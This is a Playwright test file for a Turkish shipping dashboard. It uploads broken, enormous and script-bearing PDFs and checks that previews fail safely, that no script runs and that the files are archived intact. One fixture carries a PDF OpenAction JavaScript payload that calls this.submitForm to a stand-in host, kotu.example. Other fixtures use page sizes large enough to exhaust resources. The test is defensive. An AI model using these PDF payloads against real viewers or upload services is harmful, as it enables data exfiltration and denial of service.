import { readFile } from 'node:fs/promises'
import { expect, test } from '@playwright/test'
import { expectNoSidewaysScroll, watchConsole } from './clean-page.ts'
import { aPdf } from './document-files.ts'
import { askForQuote, signInAsShipper } from './make-requests.ts'

const pdf = (name: string, buffer: Buffer) => ({ name, mimeType: 'application/pdf', buffer })
/** Begins and ends as a PDF does, and between that nothing is where it says. */
const broken = pdf('bozuk.pdf', Buffer.from('%PDF-1.7\nxref\n0 99\nstartxref\n999999\n%%EOF\n'))
const tower = pdf('kule.pdf', aPdf('Kule', { page: '1 90000000' }))
const vast = pdf('dev.pdf', aPdf('Dev', { page: '200000000 200000000' }))
const script = '/OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("https://kotu.example/")) >>'
const scripted = pdf('betik.pdf', aPdf('Betik', { catalog: script }))
const all = [broken, tower, vast, scripted]

test('a PDF that is broken, vast or has a script is a plain icon or a drawing, and does nothing @phone', async ({
  page,
}) => {
  const complaints = watchConsole(page)
  const strangers: string[] = []
  page.on('dialog', (dialog) => strangers.push(dialog.message()))
  page.on('request', (request) => {
    if (request.url().includes('kotu.example')) strangers.push(request.url())
  })
  await signInAsShipper(page.request)
  const { id } = await askForQuote(page.request)
  await page.goto(`/dashboard?view=documents&request=${id}`)
  const chooser = page.waitForEvent('filechooser')
  await page
    .getByRole('group', { name: 'Belgenin türü' })
    .getByRole('button', { name: 'Fatura', exact: true })
    .click()
  await (await chooser).setFiles(all)
  const cards = page.getByRole('list', { name: 'Belgelerim' }).getByRole('listitem')
  await expect(cards).toHaveCount(all.length)

  for (const { name } of [broken, tower]) {
    const card = cards.filter({ hasText: name })
    await card.scrollIntoViewIfNeeded()
    await card.getByRole('link', { name }).click()
    const dialog = page.getByRole('dialog', { name })
    await expect(dialog.getByText('Dosya burada gösterilemedi. İndirip açabilirsiniz.')).toBeVisible()
    await expectNoSidewaysScroll(page)
    await page.goBack()
    await expect(dialog).toBeHidden()
    // It had its time to be drawn small.
    await expect(card.locator('img')).toHaveCount(0)
    await expect(card.locator('svg').first()).toBeVisible()
  }
  for (const { name } of [vast, scripted]) {
    await cards.getByRole('link', { name }).click()
    const drawn = page.getByRole('dialog', { name }).getByRole('img', { name: `${name}, sayfa 1 / 1` })
    await expect
      .poll(() => drawn.evaluate((canvas: HTMLCanvasElement) => canvas.width), { timeout: 20_000 })
      .toBeGreaterThan(210)
    await page.goBack()
  }

  // What nobody draws is kept byte for byte, and goes into the archive.
  await page.goto(`/dashboard?view=requests&request=${id}`)
  const saved = page.waitForEvent('download')
  await page.getByRole('link', { name: 'Tümünü indir (ZIP)' }).click()
  const archive = await readFile(await (await saved).path())
  for (const { name, buffer } of all) {
    expect(archive.includes(Buffer.from(name)), name).toBe(true)
    expect(archive.includes(buffer), name).toBe(true)
  }
  expect(strangers).toEqual([])
  expect(complaints).toEqual([])
})
